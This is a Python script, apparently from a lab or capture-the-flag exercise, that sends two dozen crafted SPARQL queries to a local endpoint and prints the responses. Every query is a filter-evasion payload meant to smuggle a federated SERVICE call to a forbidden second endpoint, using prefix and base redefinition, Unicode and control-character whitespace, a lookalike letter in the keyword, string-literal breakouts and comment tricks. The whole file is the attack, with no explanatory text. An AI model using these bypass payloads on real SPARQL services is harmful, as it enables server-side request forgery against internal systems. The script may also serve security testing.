import urllib.request, urllib.parse
S="http://127.0.0.1:5392/sparql"
E="http://127.0.0.1:5395/sparql"
qs = [
 "PREFIX p: <http://127.0.0.1:5394/> PREFIX p: <http://127.0.0.1:5395/> SELECT * WHERE { SERVICE p:sparql { ?x ?y ?z } }",
 "BASE <http://127.0.0.1:5394/> BASE <http://127.0.0.1:5395/> SELECT * WHERE { SERVICE <sparql> { ?x ?y ?z } }",
 "BASE <http://127.0.0.1:5394/> PREFIX p: <sparql> BASE <http://127.0.0.1:5395/> SELECT * WHERE { SERVICE p: { ?x ?y ?z } }",
 "PREFIX p: <http://127.0.0.1:5395/> SELECT * WHERE { SERVICE <http://127.0.0.1:5394/sparql> { ?x ?y ?z } SERVICE p:sparql { ?a ?b ?c } }",
 f"SELECT * WHERE {{ ?a ?b ?c FILTER(?a <?b) SERVICE <{E}> {{ ?x ?y ?z }} FILTER(?c >?b) }}",
 f"SELECT * WHERE {{ ?a ?b ?c FILTER(?a<?b||?c> <{E}>) }} LIMIT 1",
 f"SELECT * WHERE {{ ?a ?b \"x\\\" }} SERVICE <{E}> {{ ?x ?y ?z }} #\" }}",
 f"SELECT * WHERE {{ ?a ?b '''x''' . SERVICE <{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ ?a ?b 'x\\'' . SERVICE <{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ ?a ?b <http://x/#> . SERVICE <{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ ?a ?b ?c }} LIMIT 1 OFFSET 0 VALUES ?s {{ <{E}> }}",
 f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:5394/sparql> {{ ?x ?y ?z }} }} VALUES ?x {{ <{E}> }}",
 f"SELECT * WHERE {{ SERVICE\u00a0<{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ SERVICE\u3000<{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ SERVICE\f<{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ SERVICE\v<{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ SERV\u0130CE <{E}> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ ?x ?y ?z }} #\r SERVICE <{E}> {{ }}",
 f"SELECT * WHERE {{ ?x ?y ?z FILTER(?z = \"a\"^^<{E}>) }}",
 f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:5394/sparql> {{ ?x ?y ?z FILTER EXISTS {{ SERVICE <{E}> {{ }} }} }} }}",
 f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:5394/sparql> {{ GRAPH <{E}> {{ ?x ?y ?z }} }} }}",
 f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:5394/sparql> {{ ?x ?y ?z }} }} ORDER BY (<{E}>(?x))",
 f"CONSTRUCT {{ ?x ?y ?z }} WHERE {{ SERVICE SILENT <http://127.0.0.1:5394/sparql> {{ ?x ?y ?z }} }}",
 f"SELECT * WHERE {{ {{ SERVICE <http://127.0.0.1:5394/sparql> {{ ?x ?y ?z }} }} UNION {{ SERVICE <http://127.0.0.1:5394/sparql> {{ ?x ?y ?w }} }} }}",
]
for q in qs:
    d=urllib.parse.urlencode({"query":q}).encode()
    r=urllib.request.Request(S, data=d, headers={"Accept":"application/json"})
    try: resp=urllib.request.urlopen(r, timeout=40); code=resp.status; body=resp.read()[:120]
    except urllib.error.HTTPError as e: code=e.code; body=e.read()[:200]
    print(code, repr(q[:120]), "=>", body.decode(errors='replace')[:200])
